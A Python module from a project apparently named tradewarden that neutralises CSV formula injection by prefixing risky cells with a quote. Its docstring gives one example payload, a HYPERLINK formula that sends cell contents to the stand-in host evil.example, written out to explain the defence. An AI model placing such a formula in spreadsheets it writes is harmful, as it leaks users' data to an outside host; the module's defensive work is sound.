"""CSV formula-injection defence for every CSV file tradewarden writes.

A spreadsheet opening a CSV runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and,
in some programs, a tab or carriage return) as a formula: a party named
``=HYPERLINK("http://evil.example/?"&A1)`` in a batch file would come back in the result CSV as
a live formula. Following OWASP's advice, such a text cell gets a leading ``'``, which
spreadsheets show as text. Only text is changed: numbers (scores, line numbers) are written as
numbers, so ``-0.5`` stays a number. Used by :class:`tradewarden.batch.io.TableWriter` (batch
results, rejects, ``match --in/--out``), the only CSV writer.
"""

from __future__ import annotations

#: First characters that make a spreadsheet read a cell as a formula.
FORMULA_PREFIXES: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
#: The same as a regular expression anchored at the start (RE2 syntax, for pyarrow.compute).
FORMULA_PATTERN = r"^[=+\-@\t\r]"
#: What is put in front of a formula-like cell.
ESCAPE = "'"


def neutralise(text: str) -> str:
    """``text`` made safe for a CSV cell: prefixed with ``'`` if a spreadsheet would run it.

    Args:
        text: a cell's text (a user-supplied id, name or reason).
    Returns:
        ``'=1+1`` for ``=1+1``; any other text unchanged.
    """
    return ESCAPE + text if text.startswith(FORMULA_PREFIXES) else text
